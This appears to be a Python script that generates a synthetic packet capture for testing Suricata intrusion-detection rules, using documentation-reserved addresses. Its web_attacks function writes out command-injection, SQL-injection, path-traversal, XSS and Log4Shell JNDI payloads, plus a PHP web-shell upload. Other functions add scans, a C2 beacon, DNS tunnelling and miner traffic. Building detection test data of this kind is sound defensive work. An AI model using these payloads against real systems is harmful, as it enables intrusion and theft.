#!/usr/bin/env python3
"""Write the capture that the demonstration is made from: `make_pcap.py FILE`.

Every frame is built here from nothing but the standard library, with addresses and names that are set aside
for documentation (RFC 5737, RFC 3849, RFC 2606), so that the capture shows no one's traffic and the file is
the same bytes on every run. The story: ten minutes at the border of a small office network, 192.0.2.0/24
and 2001:db8:1::/64, with visitors from 198.51.100.0/24 and one bad guest, 203.0.113.66.

`make_eve.sh` runs the capture through Suricata with `sample.rules`.
"""

from __future__ import annotations

import ipaddress
import random
import struct
import sys
import zlib
from pathlib import Path

START = 1767258000.0  # 2026-01-01 09:00:00 UTC
MSS = 1400

WEB = "192.0.2.10"
MAIL = "192.0.2.25"
NAMES = "192.0.2.53"
SHELL = "192.0.2.22"
FILES = "192.0.2.30"
BAD = "203.0.113.66"
WEB6 = "2001:db8:1::10"
NAMES6 = "2001:db8:1::53"


def checksum(data: bytes) -> int:
    """The Internet checksum of RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - total


def station(address: ipaddress.IPv4Address | ipaddress.IPv6Address) -> bytes:
    """A locally administered MAC address for an IP address, always the same."""
    return b"\x02\x00" + struct.pack(">I", zlib.crc32(address.packed))


class Capture:
    """Frames with their times; written sorted, as a capture is."""

    def __init__(self) -> None:
        self.frames: list[tuple[float, int, bytes]] = []
        self.identification = 0

    def ip(
        self,
        when: float,
        source: str,
        target: str,
        protocol: int,
        segment: bytes,
        vlans: tuple[int, ...] = (),
        ttl: int = 64,
    ) -> None:
        """Add one IP packet; `segment` has its checksum field zero where the protocol has one."""
        a, b = ipaddress.ip_address(source), ipaddress.ip_address(target)
        offset = {1: 2, 6: 16, 17: 6, 58: 2}[protocol]
        if protocol == 1:
            pseudo = b""
        elif a.version == 4:
            pseudo = a.packed + b.packed + struct.pack(">BBH", 0, protocol, len(segment))
        else:
            pseudo = a.packed + b.packed + struct.pack(">II", len(segment), protocol)
        value = checksum(pseudo + segment) or 0xFFFF
        segment = segment[:offset] + struct.pack(">H", value) + segment[offset + 2 :]
        if a.version == 4:
            self.identification = self.identification + 1 & 0xFFFF
            fields = [0x45, 0, 20 + len(segment), self.identification, 0x4000, ttl, protocol]
            header = struct.pack(">BBHHHBBH", *fields, 0) + a.packed + b.packed
            header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
            kind = 0x0800
        else:
            header = struct.pack(">IHBB", 6 << 28, len(segment), protocol, ttl) + a.packed + b.packed
            kind = 0x86DD
        tags = b"".join(struct.pack(">HH", 0x8100, vlan) for vlan in vlans)
        frame = station(b) + station(a) + tags + struct.pack(">H", kind) + header + segment
        self.frames.append((when, len(self.frames), frame))

    def udp(
        self,
        when: float,
        source: tuple[str, int],
        target: tuple[str, int],
        payload: bytes,
        vlans: tuple[int, ...] = (),
    ) -> None:
        """Add one UDP datagram."""
        segment = struct.pack(">HHHH", source[1], target[1], 8 + len(payload), 0) + payload
        self.ip(when, source[0], target[0], 17, segment, vlans)

    def echo(self, when: float, source: str, target: str, identifier: int, size: int = 56) -> None:
        """Add a ping and its answer, 4 or 6 as the addresses are."""
        six = ":" in source
        body = struct.pack(">HH", identifier, 1) + bytes(number % 256 for number in range(size))
        ask, answer = (b"\x80", b"\x81") if six else (b"\x08", b"\x00")
        for delay, left, right, kind in ((0.0, source, target, ask), (0.004, target, source, answer)):
            self.ip(when + delay, left, right, 58 if six else 1, kind + b"\0\0\0" + body)

    def write(self, path: Path) -> None:
        """Write a pcap file, link type 1 (Ethernet), times in microseconds."""
        with path.open("wb") as stream:
            stream.write(struct.pack(">IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for when, _, frame in sorted(self.frames, key=lambda row: row[:2]):
                micro = round(when * 1_000_000)
                row = struct.pack(">IIII", micro // 1_000_000, micro % 1_000_000, len(frame), len(frame))
                stream.write(row + frame)


class Conversation:
    """One TCP connection: open, say, answer, close."""

    def __init__(
        self,
        capture: Capture,
        when: float,
        client: tuple[str, int],
        server: tuple[str, int],
        vlans: tuple[int, ...] = (),
    ) -> None:
        self.capture = capture
        self.ends = (client, server)
        self.vlans = vlans
        seed = zlib.crc32(repr((client, server, when)).encode())
        self.sequence = [seed & 0x7FFFFFFF, seed * 7 & 0x7FFFFFFF]
        self.now = when + seed % 997 / 1009
        self._segment(0, 0x02, options=struct.pack(">BBH", 2, 4, MSS))
        self._segment(1, 0x12, options=struct.pack(">BBH", 2, 4, MSS))
        self._segment(0, 0x10)

    def _segment(self, side: int, flags: int, payload: bytes = b"", options: bytes = b"") -> None:
        (source, port), (target, other) = self.ends[side], self.ends[1 - side]
        acknowledged = self.sequence[1 - side] if flags & 0x10 else 0
        offset = (20 + len(options)) // 4 << 4
        fields = [port, other, self.sequence[side], acknowledged, offset, flags, 64240, 0, 0]
        segment = struct.pack(">HHIIBBHHH", *fields) + options + payload
        self.capture.ip(self.now, source, target, 6, segment, self.vlans)
        self.sequence[side] += len(payload) + bool(flags & 0x03)
        self.now += 0.002

    def say(self, payload: bytes, *, side: int = 0, pause: float = 0.01) -> Conversation:
        """Send `payload` from the client (side 0) or the server (side 1), acknowledged by the other."""
        self.now += pause
        for start in range(0, len(payload), MSS):
            part = payload[start : start + MSS]
            self._segment(side, 0x18, part)
            self._segment(1 - side, 0x10)
        return self

    def answer(self, payload: bytes, *, pause: float = 0.015) -> Conversation:
        """Send `payload` from the server."""
        return self.say(payload, side=1, pause=pause)

    def chat(self, *lines: str) -> Conversation:
        """Say lines of text, `> ` before those of the client and `< ` before those of the server."""
        for line in lines:
            self.say(f"{line[2:]}\r\n".encode(), side=int(line.startswith("<")))
        return self

    def close(self) -> None:
        """Close from both sides."""
        self._segment(0, 0x11)
        self._segment(1, 0x11)
        self._segment(0, 0x10)


def request(
    target: str,
    host: str = "www.example.com",
    *,
    method: str = "GET",
    agent: str = "Mozilla/5.0 (X11; Linux x86_64) ExampleBrowser/12.1",
    headers: tuple[str, ...] = (),
    body: bytes = b"",
) -> bytes:
    """An HTTP/1.1 request."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", f"User-Agent: {agent}", "Accept: */*", *headers]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join([*lines, "", ""]).encode() + body


def response(body: bytes, kind: str = "text/html", status: str = "200 OK") -> bytes:
    """An HTTP/1.1 response with its body."""
    lines = [f"HTTP/1.1 {status}", "Server: ExampleServer/3.2", f"Content-Type: {kind}"]
    return "\r\n".join([*lines, f"Content-Length: {len(body)}", "", ""]).encode() + body


def page(title: str) -> bytes:
    """A small web page."""
    return f"<!doctype html><title>{title}</title><h1>{title}</h1>\n".encode()


def filler(size: int, seed: int) -> bytes:
    """Bytes that do not compress, always the same."""
    return random.Random(seed).randbytes(size)


def dns_name(name: str) -> bytes:
    """A name as DNS writes it."""
    return b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"


def lookup(
    capture: Capture,
    when: float,
    client: str,
    name: str,
    answer: str | None,
    kind: int = 1,
    server: str = NAMES,
) -> None:
    """A DNS query and its answer: an address (A, AAAA), or for None "no such name"."""
    number = zlib.crc32(f"{name}{when}".encode()) & 0xFFFF
    port = 20000 + number % 40000
    question = dns_name(name) + struct.pack(">HH", kind, 1)
    capture.udp(when, (client, port), (server, 53), struct.pack(">6H", number, 0x0100, 1, 0, 0, 0) + question)
    flags, records = (0x8183, b"") if answer is None else (0x8180, b"")
    if answer is not None:
        packed = bytes([len(answer)]) + answer.encode() if kind == 16 else ipaddress.ip_address(answer).packed
        records = struct.pack(">HHHIH", 0xC00C, kind, 1, 300, len(packed)) + packed
    header = struct.pack(">6H", number, flags, 1, bool(records), 0, 0)
    capture.udp(when + 0.012, (server, 53), (client, port), header + question + records)


def client_hello(name: str, seed: int) -> bytes:
    """A TLS 1.2 ClientHello that names the server it wants."""
    host = name.encode()
    server_name = struct.pack(">HHHBH", 0, len(host) + 5, len(host) + 3, 0, len(host)) + host
    groups = bytes.fromhex("000a00060004001d0017")
    extensions = server_name + groups
    suites = bytes.fromhex("c02bc02fc02cc030009c009d")
    body = b"\x03\x03" + filler(32, seed) + b"\0" + struct.pack(">H", len(suites)) + suites + b"\x01\x00"
    body += struct.pack(">H", len(extensions)) + extensions
    handshake = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(handshake)) + handshake


def server_hello(seed: int) -> bytes:
    """A TLS 1.2 ServerHello, then an alert: the sample has no certificate to show."""
    body = b"\x03\x03" + filler(32, seed) + b"\0" + b"\xc0\x2f" + b"\0"
    handshake = b"\x02" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x03" + struct.pack(">H", len(handshake)) + handshake


def everyday(capture: Capture, chance: random.Random) -> None:
    """Traffic that means no harm: pages, names, mail, files, encrypted sessions, pings."""
    sites = ["www.example.com", "news.example.org", "shop.example.net", "wiki.example.com"]
    for number in range(48):
        when = START + number * 11.7 + chance.random()
        client = f"192.0.2.{100 + number % 23}"
        site = sites[number % 4]
        address = f"198.51.100.{20 + number % 4}"
        lookup(capture, when, client, site, address)
        if number % 3 == 0:
            client6 = f"2001:db8:1::{100 + number % 23:x}"
            lookup(capture, when + 0.02, client6, site, "2001:db8:2::20", 28, NAMES6)
        port = 40000 + number * 13
        if number % 2:
            talk = Conversation(capture, when + 0.05, (client, port), (address, 443))
            talk.say(client_hello(site, number)).answer(server_hello(1000 + number))
            talk.answer(b"\x15\x03\x03\x00\x02\x02\x28").close()
        else:
            talk = Conversation(capture, when + 0.05, (client, port), (address, 80))
            talk.say(request(f"/articles/{number}", site)).answer(response(page(f"Article {number}"))).close()
    for number in range(10):
        when = START + 20 + number * 55.3
        capture.echo(when, f"192.0.2.{100 + number}", "198.51.100.1", number)
        capture.echo(when + 1, f"2001:db8:1::{100 + number:x}", "2001:db8:2::1", 100 + number)
    for number in range(6):
        talk = Conversation(capture, START + 60 + number * 80, ("198.51.100.77", 33000 + number), (MAIL, 25))
        talk.chat(
            "< 220 mail.example.com ESMTP",
            "> EHLO relay.example.net",
            "< 250 mail.example.com",
            "> MAIL FROM:<alice@example.net>",
            "< 250 OK",
            "> RCPT TO:<bob@example.com>",
            "< 250 OK",
            "> DATA",
            "< 354 Go on",
        )
        head = f"From: alice@example.net\r\nTo: bob@example.com\r\nSubject: Minutes {number}\r\n\r\n"
        talk.say(head.encode() + b"See you.\r\n.\r\n").chat("< 250 OK", "> QUIT", "< 221 Bye").close()


def downloads(capture: Capture) -> None:
    """Files over HTTP, some of a kind that a rule asks about."""
    stub = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0L\x01"
    picture = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle r="9"/></svg>\n'
    files = [
        ("/download/setup-3.1.exe", "application/octet-stream", stub + filler(5200, 1)),
        ("/download/handbook.pdf", "application/pdf", b"%PDF-1.4\n%sample\n" + filler(4100, 2)),
        ("/img/logo.svg", "image/svg+xml", picture),
        ("/download/archive.zip", "application/zip", b"PK\x03\x04\x14\0\0\0" + filler(3000, 4)),
        ("/js/app.js", "application/javascript", b"function start(){return 42}\n" * 60),
        ("/data/prices.csv", "text/csv", b"item,price\nbolt,0.10\nnut,0.08\n" * 40),
    ]
    for number in range(18):
        path, kind, body = files[number % len(files)]
        client = (f"192.0.2.{110 + number}", 45000 + number)
        vlans = ((), (42,), (7, 42))[number % 3]
        talk = Conversation(capture, START + 15 + number * 31.4, client, ("198.51.100.40", 80), vlans)
        talk.say(request(path, "files.example.org")).answer(response(body, kind)).close()


def port_scan(capture: Capture) -> None:
    """The bad guest tries doors; all answer with a reset."""
    ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 993, 1433, 1521, 2049]
    ports += [3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 11211, 27017]
    for turn, target in enumerate((WEB, SHELL, FILES)):
        for number, port in enumerate(ports):
            when = START + 95 + turn * 140 + number * 0.03
            source = 50000 + turn * 100 + number
            sequence = 0x10000000 + number * 4096
            syn = struct.pack(">HHIIBBHHH", source, port, sequence, 0, 0x50, 0x02, 1024, 0, 0)
            capture.ip(when, BAD, target, 6, syn, ttl=47)
            reset = struct.pack(">HHIIBBHHH", port, source, 0, sequence + 1, 0x50, 0x14, 0, 0, 0)
            capture.ip(when + 0.001, target, BAD, 6, reset)
    for number in range(24):
        capture.echo(START + 90 + number * 0.2, BAD, f"192.0.2.{1 + number}", 900 + number, size=8)


def web_attacks(capture: Capture) -> None:
    """Requests that a web server should not see; they pass a proxy, which says for whom it asks."""
    proxy = "198.51.100.9"
    browser, scanner = "curl/8.5.0", "ExampleScanner/2.0"
    cases = [
        ("/cgi-bin/status.cgi?host=localhost;cat%20/etc/passwd", browser, ""),
        ("/item.php?id=1%20UNION%20SELECT%20name%20FROM%20users--", "sqlmap/1.7 (example)", ""),
        ("/static/../../../../etc/shadow", browser, ""),
        ("/search?q=<script>alert(1)</script>", browser, ""),
        ("/login", "${jndi:ldap://203.0.113.66/a}", ""),
        ("/wp-admin/setup-config.php", scanner, ""),
        ("/.git/config", scanner, ""),
        ("/private/report", browser, "Authorization: Basic YWxpY2U6c2VjcmV0"),
    ]
    for number in range(40):
        path, agent, extra = cases[number % len(cases)]
        forwarded = BAD if number % 5 else "2001:db8:bad::66"
        when = START + 130 + number * 9.1
        headers = [extra] if extra else []
        headers.append(f"X-Forwarded-For: 192.0.2.{200 + number % 40}, {forwarded}")
        message = request(path, agent=agent, headers=tuple(headers))
        vlans = (42,) if number % 4 == 0 else ()
        if number % 6 == 5:
            talk = Conversation(capture, when, ("2001:db8:bad::66", 52000 + number), (WEB6, 80))
        else:
            talk = Conversation(capture, when, (proxy, 52000 + number), (WEB, 80), vlans)
        if number % 8 == 0:
            shown = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
            talk.say(message).answer(response(shown, "text/plain"))
        else:
            talk.say(message).answer(response(page("Not found"), status="404 Not Found"))
        talk.close()
    for number in range(3):
        body = b'<?php system($_POST["c"]); ?>\n'
        form = (
            b'--sample\r\nContent-Disposition: form-data; name="file"; filename="shell.php"\r\n'
            b"Content-Type: application/x-php\r\n\r\n" + body + b"\r\n--sample--\r\n"
        )
        kind = "Content-Type: multipart/form-data; boundary=sample"
        talk = Conversation(capture, START + 300 + number * 70, (BAD, 53000 + number), (WEB, 80))
        talk.say(request("/upload.php", method="POST", headers=(kind,), body=form))
        talk.answer(response(page("Stored"))).close()


def shell_and_mail(capture: Capture) -> None:
    """Many short SSH sessions, clear-text logins, and a mailbox probed for names."""
    for number in range(14):
        talk = Conversation(capture, START + 160 + number * 3.3, (BAD, 54000 + number), (SHELL, 22))
        talk.answer(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n").say(b"SSH-2.0-libssh_0.9.6\r\n").close()
    for number in range(6):
        talk = Conversation(capture, START + 240 + number * 21, (BAD, 55000 + number), (FILES, 21))
        talk.chat("< 220 files.example.com FTP", "> USER anonymous", "< 331 Password")
        talk.chat("> PASS guest@example.com", "< 230 Welcome", "> QUIT", "< 221 Bye").close()
    for number in range(5):
        talk = Conversation(capture, START + 260 + number * 18, (BAD, 56000 + number), (MAIL, 25))
        talk.chat("< 220 mail.example.com ESMTP", "> HELO probe.example.net", "< 250 Hello")
        talk.chat(f"> VRFY user{number}", "< 252 Cannot say", "> QUIT", "< 221 Bye").close()


def inside_jobs(capture: Capture) -> None:
    """Hosts of the office that behave oddly: a beacon, a tunnel through DNS, a miner, a manager's query."""
    for number in range(10):
        when = START + 45 + number * 50
        lookup(capture, when, "192.0.2.117", "c2.malware.example", "203.0.113.99")
        talk = Conversation(capture, when + 0.1, ("192.0.2.117", 57000 + number), ("203.0.113.99", 443))
        talk.say(client_hello("c2.malware.example", 500 + number)).answer(server_hello(600 + number)).close()
    for number in range(12):
        label = filler(24, 700 + number).hex()
        lookup(capture, START + 330 + number * 4, "192.0.2.121", f"{label}.t.tunnel.example", None, 16)
    for number in range(4):
        ends = (("192.0.2.119", 58000 + number), ("203.0.113.80", 3333))
        talk = Conversation(capture, START + 410 + number * 30, *ends)
        talk.say(b'{"id":1,"method":"mining.subscribe","params":["example/1.0"]}\n')
        talk.answer(b'{"id":1,"result":[[],"08000002",4],"error":null}\n').close()
    query = bytes.fromhex("302602010104067075626c6963a019020101020100020100300e300c06082b060102010101000500")
    for number in range(5):
        capture.udp(START + 200 + number * 60, (BAD, 59000 + number), (f"192.0.2.{1 + number}", 161), query)
    for number in range(4):
        name = b"\0\x01router-config.bin\0octet\0"
        capture.udp(START + 215 + number * 60, (BAD, 60000 + number), (FILES, 69), name, (42,))
    for number in range(3):
        capture.echo(START + 500 + number * 5, "192.0.2.121", BAD, 4000 + number, size=1200)


def main() -> int:
    """Write the capture to the file named as the only argument."""
    if len(sys.argv) != 2:
        print("usage: make_pcap.py FILE", file=sys.stderr)
        return 2
    capture = Capture()
    everyday(capture, random.Random(8302))
    downloads(capture)
    port_scan(capture)
    web_attacks(capture)
    shell_and_mail(capture)
    inside_jobs(capture)
    capture.write(Path(sys.argv[1]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
